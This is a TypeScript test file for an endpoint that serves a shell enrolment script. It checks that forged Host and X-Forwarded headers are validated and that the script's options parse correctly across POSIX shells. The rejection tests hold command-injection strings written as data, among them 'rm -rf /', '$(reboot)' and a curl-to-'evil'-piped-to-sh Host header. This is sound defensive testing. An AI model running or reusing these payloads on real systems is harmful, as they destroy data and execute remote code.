// GET /register.sh without running it: the manager URL taken from a forgeable Host header,
// the script's shell syntax under every shell it promises, and its command line.
import { afterAll, beforeAll, describe, expect, test } from "bun:test";
import fc from "fast-check";
import { join } from "node:path";
import { managerUrl, normaliseAuthority, registerScript } from "../../src/api/enrol/script.ts";
import { testApp, type TestApp } from "../helpers/app.ts";
import { needs } from "../helpers/requirements.ts";

const TEMPLATE = join(import.meta.dir, "../../src/api/enrol/register.sh");
const origin = (host: string | null, more: Partial<Parameters<typeof managerUrl>[0]> = {}) =>
  managerUrl({ host, urlHost: "localhost", forwardedHost: null, forwardedProto: null, trustProxy: false, ...more });

describe("the manager URL comes from the Host header, validated", () => {
  test.each([
    ["198.18.0.1", "198.18.0.1"],
    ["198.18.0.1:8080", "198.18.0.1:8080"],
    ["[fd00::1]:8080", "[fd00::1]:8080"],
    ["[FD00::A]", "[fd00::a]"],
    ["[::ffff:198.18.0.1]:80", "[::ffff:198.18.0.1]:80"],
    ["Manager.Example.org.", "manager.example.org"],
    ["vxman-1.lan:08080", "vxman-1.lan:8080"],
  ])("%p → %p", (raw, expected) => expect(normaliseAuthority(raw)).toBe(expected));

  test.each([
    "",
    "x';rm -rf /;'",
    "$(reboot)",
    "`id`",
    "a b",
    "host\nx",
    "host:0",
    "host:70000",
    "host:80:80",
    "198.18.0.1:8080/x",
    "[fe80::1%eth0]",
    "[fe80::1%25eth0]",
    "[::1",
    "::1",
    "[1.2.3.4]",
    "1.2.3",
    "999.1.1.1",
    "exa_mple.org",
    "-leading.example.org",
    "bücher.example",
    "a".repeat(64) + ".example.org",
  ])("%p is refused", (raw) => expect(normaliseAuthority(raw)).toBeNull());

  test("whatever a client sends, the URL holds nothing a shell would read", () => {
    fc.assert(
      fc.property(fc.string({ unit: "binary", maxLength: 80 }), (raw) => {
        const url = origin(raw);
        expect(url === null || /^http:\/\/[a-z0-9.:[\]-]+$/.test(url)).toBe(true);
      }),
      { numRuns: 2000 },
    );
    fc.assert(
      fc.property(fc.stringMatching(/^[\w.:[\]%$`'";\\ -]{1,40}$/), (raw) => {
        const url = origin(raw);
        expect(url === null || /^http:\/\/[a-z0-9.:[\]-]+$/.test(url)).toBe(true);
      }),
      { numRuns: 2000 },
    );
  });

  test("X-Forwarded-Host and -Proto count only behind a trusted proxy", () => {
    const forwarded = { forwardedHost: "vxman.example.org, proxy.lan", forwardedProto: "https" };
    expect(origin("198.18.0.1:8080", forwarded)).toBe("http://198.18.0.1:8080");
    expect(origin("198.18.0.1:8080", { ...forwarded, trustProxy: true })).toBe("https://vxman.example.org");
    expect(origin("198.18.0.1:8080", { forwardedHost: "$(id)", forwardedProto: "gopher", trustProxy: true })).toBeNull();
    expect(origin("198.18.0.1:8080", { forwardedProto: "gopher", trustProxy: true })).toBe("http://198.18.0.1:8080");
  });

  test("no Host header: the request URL's host", () => {
    expect(origin(null, { urlHost: "127.0.0.1:9000" })).toBe("http://127.0.0.1:9000");
  });

  test("the script names the manager once, single-quoted; an unsafe URL is refused outright", () => {
    const script = registerScript("http://[fd00::1]:8080");
    expect(script.match(/^SERVED_MANAGER=.*$/gm)).toEqual(["SERVED_MANAGER='http://[fd00::1]:8080'"]);
    expect(script).not.toContain("@@");
    for (const bad of ["http://x';id;'", "http://a b", "http://$(id)", "http://x\n", "file:///etc"]) {
      expect(() => registerScript(bad)).toThrow("refusing");
    }
  });
});

describe("GET /register.sh", () => {
  let t: TestApp;
  beforeAll(async () => {
    t = await testApp("pglite");
  });
  afterAll(() => t.close());

  test("serves the script as plain text, uncached, naming the manager as the request reached it", async () => {
    const res = await t.request("GET", "/register.sh", { headers: { host: "198.18.0.1:8080" } });
    expect(res.status).toBe(200);
    expect(res.headers.get("content-type")).toBe("text/plain; charset=utf-8");
    expect(res.headers.get("cache-control")).toBe("no-store");
    expect(res.headers.get("x-content-type-options")).toBe("nosniff");
    const script = await res.text();
    expect(script).toStartWith("#!/bin/sh\n");
    expect(script).toContain("SERVED_MANAGER='http://198.18.0.1:8080'\n");
  });

  test("a hostile Host header gets a JSON 400, never a script", async () => {
    const res = await t.request("GET", "/register.sh", { headers: { host: "x';curl${IFS}evil|sh;'" } });
    expect(res.status).toBe(400);
    expect(await res.json()).toMatchObject({ error: "invalid_host" });
  });
});

describe("the script's shell", () => {
  const shells = (["dash", "busybox"] as const).filter((s) => needs(s));
  const run = (shell: string, args: string[]) => {
    const cmd = shell === "busybox" ? ["busybox", "sh", ...args] : [shell, ...args];
    const r = Bun.spawnSync(cmd, { env: { PATH: process.env.PATH ?? "/usr/bin:/bin" }, timeout: 10_000 });
    return { code: r.exitCode, out: r.stdout.toString(), err: r.stderr.toString() };
  };

  test.each(["sh", ...shells])("%s -n: the syntax is POSIX", (shell) => {
    expect(run(shell, ["-n", TEMPLATE])).toMatchObject({ code: 0, err: "" });
  });

  test.each(["sh", ...shells])("%s: --help exits 0; a bad option or URL exits 2 and says why", (shell) => {
    const help = run(shell, [TEMPLATE, "--help"]);
    expect(help.code).toBe(0);
    expect(help.out).toContain("--heartbeat");
    const bad = run(shell, [TEMPLATE, "--frobnicate"]);
    expect(bad.code).toBe(2);
    expect(bad.err).toContain("unknown option: --frobnicate");
    const url = run(shell, [TEMPLATE, "--manager", "ftp://198.18.0.1"]);
    expect(url.code).toBe(2);
    expect(url.err).toContain("the manager must be a URL");
    const quote = run(shell, [TEMPLATE, "--manager", "http://198.18.0.1';id;'"]);
    expect(quote.code).toBe(2);
    expect(quote.err).toContain("may hold only");
    const missing = run(shell, [TEMPLATE, "--token"]);
    expect(missing.code).toBe(2);
    expect(missing.err).toContain("--token needs a value");
    expect(run(shell, [TEMPLATE, "--manager", "http://fd00::1:8080"]).err).toContain("write an IPv6 manager address in brackets");
  });

  // `ip route get` to a loopback manager: no packet leaves. A real run stops there (exit 3); a
  // dry run, which sends nothing anyway, says so and still shows what would be sent.
  test.each(["sh", ...shells])("%s: the manager's host, IPv4 or bracketed IPv6, is what the route is asked for", (shell) => {
    for (const [url, host] of [["http://127.0.0.1:9/", "127.0.0.1"], ["http://[::1]:9", "::1"]] as const) {
      const itself = new RegExp(`the manager ${host.replaceAll(".", "\\.")} is this machine itself|no route to the manager ${host}:`);
      const dry = run(shell, [TEMPLATE, "--dry-run", "--manager", url]);
      expect(dry.err).toMatch(itself);
      if (/is this machine itself/.test(dry.err)) {
        expect(dry.code).toBe(0);
        expect(dry.out).toMatch(/^Dry run: nothing is sent\.\nPUT http.*\/api\/machines\//);
        expect(dry.out).toContain('"hostname":');
      }
      const real = run(shell, [TEMPLATE, "--manager", url]);
      expect(real.code).toBe(3);
      expect(real.err).toMatch(itself);
    }
  });
});
